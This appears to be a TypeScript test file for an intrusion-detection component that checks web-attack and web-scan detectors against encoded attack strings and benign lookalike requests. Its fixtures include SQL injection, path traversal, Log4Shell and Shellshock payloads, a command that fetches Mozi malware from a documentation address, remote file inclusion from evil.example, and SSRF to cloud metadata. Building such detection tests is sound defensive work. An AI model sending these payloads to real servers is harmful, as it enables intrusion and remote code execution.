/** Attacks on web servers: their strings in every disguise, and honest requests that look alike. @module */

import { assertEquals } from "@std/assert";
import { webAttack } from "../../../aggregator/detect/detectors/web_attack.ts";
import { webScan } from "../../../aggregator/detect/detectors/web_scan.ts";
import {
  decodeWebText,
  webAttacksInHeader,
  webAttacksInTarget,
} from "../../../aggregator/detect/signs/web_strings.ts";
import type { HttpFact } from "../../../shared/facts.ts";
import type { FlowUpdate } from "../../../aggregator/model/flow.ts";
import { run, severity, times, update } from "./updates.ts";

const attacks: [target: string, kind: string][] = [
  ["/dv/sqli/?id=1%27+and+1%3D1%23&Submit=Submit", "SQL injection"],
  ["/a?id=-1%20UNION%20ALL%20SELECT%201,2,3", "SQL injection"],
  ["/a?id=1/**/UnIoN/**/sElEcT/**/user", "SQL injection"],
  ["/a?user=admin%27--", "SQL injection"],
  ["/a?id=1;WAITFOR%20DELAY%20%270:0:5%27", "SQL injection"],
  ["/a?id=1%20AND%20SLEEP(5)", "SQL injection"],
  ["/a?id=1')%20or%20('1'='1", "SQL injection"],
  ["/a?id=1%2527%2520or%25201%253D1", "SQL injection"],
  ["/a?id=1)%20or%20(2%3E1", "SQL injection"],
  ["/a?q=%22x%22&id=1%27+or+user%3D%27a", "SQL injection"],
  ["/../../../../etc/passwd", "path traversal"],
  ["/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "path traversal"],
  ["/scripts/..%c0%af../winnt/system32/cmd.exe", "path traversal"],
  ["/download?file=../../../../windows/win.ini", "path traversal"],
  ["/view?page=/etc/passwd", "path traversal"],
  ["/ping?host=127.0.0.1;cat%20/tmp/x", "command injection"],
  ["/setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://203.0.113.5/Mozi.m", "command injection"],
  ["/x?a=$(whoami)", "command injection"],
  ["/x?q=${jndi:ldap://203.0.113.9/a}", "JNDI look-up (Log4Shell)"],
  ["/x?q=${${lower:j}ndi:${lower:l}dap://x/a}", "JNDI look-up (Log4Shell)"],
  ["/x?q=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:rmi://x/a%7D", "JNDI look-up (Log4Shell)"],
  ["/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "script in a parameter (XSS)"],
  ["/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "script in a parameter (XSS)"],
  ["/i.php?page=php://filter/convert.base64-encode/resource=index", "code injection"],
  ["/i?class.module.classLoader.resources.context.parent=x", "Spring4Shell"],
  ["/i?class%5B'module'%5D.classLoader.defaultAssertionStatus=true", "Spring4Shell"],
  ["/x?q=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}", "JNDI look-up (Log4Shell)"],
  ["/x?q=${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}", "JNDI look-up (Log4Shell)"],
  ["/x?q=${${date:'j'}${lower:${upper:n}}d${::-i}:dns://x}", "JNDI look-up (Log4Shell)"],
  ["/x?q=%5Cu0024%5Cu007bjndi:ldap://x/a}", "JNDI look-up (Log4Shell)"],
  ["/x?q=%2524%257Bjndi%3Aldap%3A%2F%2Fx%2Fa%257D", "JNDI look-up (Log4Shell)"],
  [
    "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/",
    "OGNL expression (Struts, Confluence)",
  ],
  ["/a.action?redirect:%25%7B333*3%7D", "OGNL expression (Struts, Confluence)"],
  ["/s?name={{7*7}}", "template injection (SSTI)"],
  ["/s?name=%7B%7B''.__class__.__mro__%5B1%5D%7D%7D", "template injection (SSTI)"],
  ["/s?name=%3C%25%3D%207*7%20%25%3E", "template injection (SSTI)"],
  ["/s?name=%24%7B7*7%7D", "template injection (SSTI)"],
  ["/s?x=%24%7Bscript:javascript:java.lang.Runtime%7D", "code injection"],
  ["/i.php?page=data://text/plain;base64,PD9waHA", "code injection"],
  ["/i.php?page=phar://a.jpg/x", "code injection"],
  ["/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=x", "code injection"],
  ["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "code injection"],
  ["/x?ip=1.1.1.1%0aid", "command injection"],
  ["/x?ip=1.1.1.1%26whoami", "command injection"],
  ["/a?id=1+/*!50000UNION*/+SELECT+1", "SQL injection"],
  ["/a?id=1%u0027%20or%201=1", "SQL injection"],
  [
    "/a?xml=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E",
    "XML external entity (XXE)",
  ],
  ["/a?data=rO0ABXNyABFqYXZhLnV0aWw", "serialised object"],
  ["/a?data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D", "serialised object"],
  ["/uploads/b374k.php", "web shell"],
  ["/files/aspxspy.aspx", "web shell"],
  ["/i.php?page=http://evil.example/shell.txt?", "remote file inclusion"],
  ["/fetch?url=http://169.254.169.254/latest/meta-data/", "request forgery (SSRF)"],
  ["/uploads/c99.php", "web shell"],
  ["/uploads/a.php?cmd=whoami", "web shell"],
  ["/uploads/a.jsp?x=1&exec=/bin/cat+/etc/hosts", "web shell"],
];

Deno.test("attack strings are known in a request's target, however they are encoded", () => {
  for (const [target, kind] of attacks) {
    assertEquals(
      webAttacksInTarget(target).includes(kind as never),
      true,
      `${target} -> ${decodeWebText(target)}`,
    );
  }
});

Deno.test("honest targets show no attack", () => {
  for (
    const target of [
      "/",
      "/search?q=union+of+concerned+scientists+select+committee",
      "/search?q=select+the+best+or+the+rest",
      "/article/the-1984-and-2001-elections",
      "/combiner/c?v=20&css=base.css,/espn/styles/front.css",
      "/sharer.php?u=http://news.example/page.php?id=5&t=It's+here",
      "/login?redirect_uri=http://localhost:8080/callback",
      "/p?a=1&&b=2&c=3",
      "/ads?cb={{timestamp}}&x=%%CACHEBUSTER%%",
      "/calc?formula=(1+2)*3",
      "/owa/auth/logon.aspx?replaceCurrent=1",
      "/js/app.js;jsessionid=ABC123",
      "/path/../other/page.html",
      "/a?name=O'Brien&city=St.+John's",
      "/q?filter=price<100 and size>3",
      "/wiki/Cat_(Unix)",
      "/t?tpl=${name}&x={{user.name}}&y=#{id}&u=%7B%7Bitem.title%7D%7D",
      "/class.module.loader.js?class=module",
      "/api?expand=$%7Bcount%7D&data:text/html,x",
      "/q?text=PHP+filters+and+the+phar+format",
      "/a?token=arO0ABzz&v=AAEAAAD",
      "/media/shell.png?date=lower:x",
      "/search?q=AT%26T+cat+food%0asecond+line",
      "/page?rows=10*7&f=a*{b}",
      "/search?jql=project%20%3D%20%22A%22%20AND%20status%20%3D%20%22Open%22",
      "/query?where=NAME%3D'a'+AND+CITY%3D'b'&f=json",
      "/items?filter=(price%3E5)%20and%20(stock%3D1)",
    ]
  ) assertEquals(webAttacksInTarget(target), [], target);
});

Deno.test("of header fields only what no browser writes is an attack", () => {
  assertEquals(webAttacksInHeader("() { :;}; /bin/bash -c 'ping 203.0.113.5'"), ["Shellshock"]);
  assertEquals(webAttacksInHeader("${jndi:dns://x}"), ["JNDI look-up (Log4Shell)"]);
  for (
    const agent of [
      "Mozilla/5.0 (Linux; U; Android 4.0.4; id; sh; type) AppleWebKit/534.30",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
      "Opera/9.80 (Windows NT 6.1; U; cmd; perl)",
    ]
  ) assertEquals(webAttacksInHeader(agent), [], agent);
});

Deno.test("a content type or another header holds an attack; each is shown with its name", () => {
  const found = (fact: Partial<HttpFact>) =>
    run(webAttack, [request(0, "/x.action", 200, fact)]).map((one) => [
      one.title.replace("Web attack: ", ""),
      severity(one),
      one.evidence[2].value,
    ]);
  const ognl = "%{(#_=multipart/form-data).(#cmd=id)}";
  const struts = "OGNL expression (Struts, Confluence)";
  assertEquals(found({ content_type: ognl }), [[struts, "medium", `Content-Type: ${ognl}`]]);
  const cookie = "Cookie: a=${jndi:ldap://x/a}";
  assertEquals(found({ header: cookie }), [["JNDI look-up (Log4Shell)", "medium", cookie]]);
  const spring = "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(1)";
  assertEquals(found({ header: spring })[0].slice(1), ["medium", spring]);
  assertEquals(found({ header: "Cookie: s=rO0ABXNyABFqYXZh" }).map(([kind, grade]) => [kind, grade]), [
    ["serialised object", "low"],
  ]);
  assertEquals(found({ header: "X-Forwarded-For: 1.1.1.1' and 1=1 -- -" }).map(([kind]) => kind), [
    "SQL injection",
  ]);
  for (
    const honest of ["Cookie: c={{a}}", "X-Path: ${HOME}/x", "Cookie: n='it' 's; o=1", "X-Color: #{fff}"]
  ) assertEquals(found({ header: honest }), [], honest);
  assertEquals(found({ content_type: "multipart/form-data; boundary=----x{y}" }), []);
  // What a server answers is no attack on it.
  assertEquals(run(webAttack, [update(0, { facts: { http: [{ status: 200, content_type: ognl }] } })]), []);
});

Deno.test("a body that is no form holds an attack only where a field or the document begins with it", () => {
  const found = (body: string, content_type = "application/json") =>
    run(webAttack, [request(0, "/api", 200, { method: "POST", body, content_type })]).map((one) =>
      one.title.replace("Web attack: ", "")
    );
  assertEquals(found('{"user":"${jndi:ldap://x/a}"}'), ["JNDI look-up (Log4Shell)"]);
  assertEquals(found('{"log":"GET /?q=${jndi:ldap://x/a} 404"}'), [], "a line of a log that is sent on");
  const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
  assertEquals(found(xxe, "text/xml"), ["XML external entity (XXE)"]);
  assertEquals(found('<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD">', "text/xml"), []);
  assertEquals(found("<?php system('id');", "text/plain"), ["code injection"]);
  assertEquals(found("how to write <?php echo 1;", "text/plain"), []);
  assertEquals(found('{"@type":"com.sun.rowset.JdbcRowSetImpl"}'), ["serialised object"]);
  assertEquals(found('{"@type":"Person","name":"x"}'), []);
  const part = '--x..Content-Disposition: form-data; name="u"; filename="%{(#a=1)}"';
  assertEquals(found(part, "multipart/form-data"), ["OGNL expression (Struts, Confluence)"]);
  const form = "application/x-www-form-urlencoded";
  assertEquals(found("data=rO0ABXNyABFqYXZhLnV0aWw", form), ["serialised object"]);
  assertEquals(found("javax.faces.ViewState=rO0ABXVyABNbTGphdmE", form), []);
});

Deno.test("patterns take linear time over the longest hostile text", () => {
  const started = performance.now();
  for (
    const piece of [
      "'or ",
      "${",
      "../",
      "<img ",
      "((((",
      "union ",
      "%25",
      "/*",
      "=''",
      "{{1*",
      "${{",
      "%{#a",
      "{{a__",
      "__${",
      "${lower:",
    ]
  ) {
    webAttacksInTarget(`/?a=${piece.repeat(2_000)}`);
  }
  assertEquals(performance.now() - started < 2_000, true);
});

/** A request of 203.0.113.5 to a web server of ours, with its answer. */
function request(atS: number, uri: string, status = 200, more: Partial<HttpFact> = {}): FlowUpdate {
  return update(atS, {
    src_ip: "203.0.113.5",
    dst_ip: "10.0.0.8",
    dst_port: 80,
    app_protocol: "http",
    facts: {
      http: [{ method: "GET", uri, host: "www.example.org", user_agent: "Mozilla/5.0", ...more }, { status }],
    },
  });
}

Deno.test("web attack: one quote is low, three variants are medium, one Log4Shell is medium at once", () => {
  const inject = (count: number) => times(count, (i) => request(i, `/a?id=1'+and+${i}=${i}%23`));
  assertEquals(severity(run(webAttack, inject(2))[0]), "low");
  const [finding] = run(webAttack, inject(3));
  assertEquals([severity(finding), finding.src_ips, finding.dst_ips, finding.dst_port, finding.count], [
    "medium",
    ["203.0.113.5"],
    ["10.0.0.8"],
    80,
    3,
  ]);
  assertEquals(severity(run(webAttack, [request(0, "/?q=${jndi:ldap://x/a}")])[0]), "medium");
  assertEquals(run(webAttack, times(50, (i) => request(i, `/page/${i}?q=a+or+b`))), []);
});

Deno.test("web attack in a header is found and shown with its name", () => {
  const [finding] = run(webAttack, [request(0, "/cgi-bin/status", 200, { user_agent: "() { :;}; /bin/id" })]);
  assertEquals(finding.evidence[2].value, "User-Agent: () { :;}; /bin/id");
  assertEquals(finding.evidence[2].hostile, true);
});

Deno.test("web scan is found by its many refusals, its tool, or known weak places", () => {
  const missing = (count: number) => times(count, (i) => request(i * 0.2, `/backup${i}.zip`, 404));
  assertEquals(run(webScan, missing(30)), []);
  assertEquals(severity(run(webScan, missing(31))[0]), "medium");
  assertEquals(severity(run(webScan, [request(0, "/", 404, { user_agent: "sqlmap/1.7" })])[0]), "medium");
  const places = ["/.env", "/.git/config", "/wp-config.php.bak", "/actuator/env"];
  assertEquals(run(webScan, places.slice(0, 3).map((uri, i) => request(i, uri, 404))), []);
  assertEquals(severity(run(webScan, places.map((uri, i) => request(i, uri, 404)))[0]), "medium");
});

Deno.test("web scan is not a reader with dead links, a slow crawler, or a user of webmail", () => {
  const reader = times(100, (i) => request(i, `/page${i}`, i % 5 === 0 ? 404 : 200));
  assertEquals(run(webScan, reader), []);
  assertEquals(run(webScan, times(40, (i) => request(i * 60, `/old/${i}`, 404))), []);
  assertEquals(run(webScan, times(40, (i) => request(i, `/owa/auth/15.1/resource${i}.js`, 200))), []);
});

Deno.test("a form is read like a target, a body of another type is not; of a referrer only what no page ever has in it", () => {
  const type = "application/x-www-form-urlencoded";
  const found = (fact: Partial<HttpFact>) =>
    run(webAttack, [
      update(0, {
        src_ip: "203.0.113.9",
        dst_ip: "10.0.0.80",
        dst_port: 80,
        facts: { http: [{ method: "POST", uri: "/login", host: "www.example", ...fact }] },
      }),
    ]).map((one) => one.title);
  const jndi = "uname=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D&password=";
  assertEquals(found({ body: jndi, content_type: type }), ["Web attack: JNDI look-up (Log4Shell)"]);
  assertEquals(found({ body: "user=admin%27--&pass=1", content_type: type }), ["Web attack: SQL injection"]);
  assertEquals(found({ body: jndi, content_type: "text/plain" }), []);
  assertEquals(found({ body: "user=o%27neil&pass=;-)", content_type: type }), []);
  assertEquals(found({ referrer: "${jndi:ldap://203.0.113.9/a}" }), ["Web attack: JNDI look-up (Log4Shell)"]);
  assertEquals(found({ referrer: "http://www.example/?id=1' or '1'='1" }), []);
  assertEquals(found({ uri: "/admin.php?cmd=edit&command=list" }), []);
});

Deno.test("one request is medium when its string is an attack beyond doubt, else low", () => {
  const one = (uri: string) =>
    run(webAttack, [
      update(0, { dst_port: 80, facts: { http: [{ method: "GET", uri, host: "www.example" }] } }),
    ]).map(severity);
  for (
    const uri of [
      "/?id=a%27+UNION+SELECT+1,2--+-",
      "/?page=../../../../etc/passwd",
      "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
      "/?q=%22%20onerror=alert(1)",
    ]
  ) assertEquals(one(uri), ["medium"], uri);
  for (
    const uri of [
      "/?id=1%27+or+%271%27=%271",
      "/a/../../b",
      "/?ad=%3Cscript%20src=%22//ads.example/x.js%22%3E",
    ]
  ) {
    assertEquals(one(uri), ["low"], uri);
  }
  assertEquals(one("/search?q=how+to+alert(1)+in+script"), []);
});
